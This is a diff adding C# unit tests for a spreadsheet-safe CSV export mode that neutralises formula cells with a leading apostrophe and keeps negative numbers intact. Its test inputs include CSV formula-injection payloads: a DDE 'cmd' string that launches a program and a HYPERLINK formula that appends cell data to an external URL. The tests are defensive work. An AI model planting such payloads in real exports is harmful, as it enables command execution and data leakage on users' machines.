@@ -178,6 +178,69 @@ public sealed class CsvReportTests
         Assert.Throws<ArgumentNullException>(() => CsvReport.Render(null!, RecordKind.Figures));
     }
 
+    [Fact]
+    public void Spreadsheet_mode_writes_formula_cells_as_text_and_leaves_plain_numbers_alone()
+    {
+        string[] formulas = ["=HYPERLINK(\"http://example.org/?\"&A1,\"Click\")", "+cmd|' /C calc'!A0", "@SUM(1)", "-2+3+cmd|' /C calc'!A0", "=1+2", "\tindented", "\r\nbroken", "-", "+", "-.5", "=-3.5"];
+        string[] harmless = ["-3.5", "+7", "-12", "0", "3.5", "a=1", " =1", "'=1", string.Empty];
+        SummitDataSet data = QuotesSaying([.. formulas, .. harmless]);
+
+        List<string[]> raw = ReportParsing.ParseCsv(CsvReport.Render(data, RecordKind.Quotes, CsvMode.Raw));
+        Assert.Equal(CsvReport.Render(data, RecordKind.Quotes), CsvReport.Render(data, RecordKind.Quotes, CsvMode.Raw));
+        List<string[]> safe = ReportParsing.ParseCsv(CsvReport.Render(data, RecordKind.Quotes, CsvMode.Spreadsheet));
+        int text = IndexOf(CsvReport.Columns(RecordKind.Quotes), "text");
+        int attribution = IndexOf(CsvReport.Columns(RecordKind.Quotes), "attribution");
+
+        Assert.Equal(raw.Count, safe.Count);
+        Assert.Equal([.. formulas, .. harmless], raw.Skip(1).Select(r => r[attribution]));
+        Assert.Equal([.. formulas.Select(f => "'" + f), .. harmless], safe.Skip(1).Select(r => r[attribution]));
+        Assert.Equal(raw.Skip(1).Select(r => r[text]), safe.Skip(1).Select(r => r[text]));
+
+        // Every other field is the same in both modes; a neutralised one is quoted, so that its apostrophe is not
+        // taken for part of a bare field by a reader that trims.
+        Assert.All(raw.Zip(safe), pair => Assert.Equal(pair.First.Length, pair.Second.Length));
+        string csv = CsvReport.Render(data, RecordKind.Quotes, CsvMode.Spreadsheet);
+        Assert.Contains("\"'@SUM(1)\"", csv, StringComparison.Ordinal);
+        Assert.Contains(",-3.5,", csv, StringComparison.Ordinal);
+    }
+
+    [Fact]
+    public void Spreadsheet_mode_leaves_negative_values_numbers()
+    {
+        const string text = "Trade took a fall.";
+        string file = $"---\nformat: summitdata/1\nid: fall\nsha256: {SummitData.Loading.SummitDataLoader.TextSha256(text)}\nfigures:\n  - id: fall\n    exact: a fall\n    value: -13.5\n    unit: percent\n    measures: the fall of trade\n---\n{text}";
+        SummitDataSet data = SummitData.Loading.SummitDataLoader.LoadText("fall.summit", file).EnsureSuccess();
+        List<string[]> figures = ReportParsing.ParseCsv(CsvReport.Render(data, RecordKind.Figures, CsvMode.Spreadsheet));
+        Assert.Equal("-13.5", figures[1][IndexOf(CsvReport.Columns(RecordKind.Figures), "value")]);
+    }
+
+    [Fact]
+    public void Undefined_mode_is_refused() =>
+        Assert.Throws<ArgumentOutOfRangeException>(() => CsvReport.Render(Seeds.DataSet, RecordKind.Quotes, (CsvMode)7));
+
+    /// <summary>One document with a quote per word, each attributed to that word (any string, written as a YAML escape).</summary>
+    private static SummitDataSet QuotesSaying(string[] words)
+    {
+        string text = string.Join(" ", words.Select((_, i) => $"“q{i}”"));
+        var yaml = new System.Text.StringBuilder();
+        yaml.Append("---\nformat: summitdata/1\nid: sheet\nsha256: ").Append(SummitData.Loading.SummitDataLoader.TextSha256(text)).Append("\nquotes:\n");
+        for (int i = 0; i < words.Length; i++)
+        {
+            string escaped = string.Concat(words[i].Select(c => c switch
+            {
+                '"' => "\\\"",
+                '\\' => "\\\\",
+                '\t' => "\\t",
+                '\r' => "\\r",
+                '\n' => "\\n",
+                _ => c.ToString(),
+            }));
+            yaml.Append($"  - id: q{i}\n    exact: q{i}\n    kind: title\n    attribution: \"{escaped}\"\n");
+        }
+
+        return SummitData.Loading.SummitDataLoader.LoadText("sheet.summit", yaml + "---\n" + text).EnsureSuccess();
+    }
+
     private static int IndexOf(IReadOnlyList<string> header, string column)
     {
         int index = header.ToList().IndexOf(column);
